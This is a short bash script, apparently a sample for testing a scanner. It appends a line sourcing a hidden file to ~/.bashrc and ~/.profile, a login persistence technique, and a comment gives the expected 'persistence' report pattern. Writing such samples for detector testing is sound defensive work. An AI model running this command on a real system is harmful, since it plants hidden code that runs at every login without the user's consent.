#!/bin/bash
# does: writes itself into what a login runs
# report: "id":"persistence".*bashrc
echo '. ~/.hidden' >>~/.bashrc; echo '. ~/.hidden' >>~/.profile
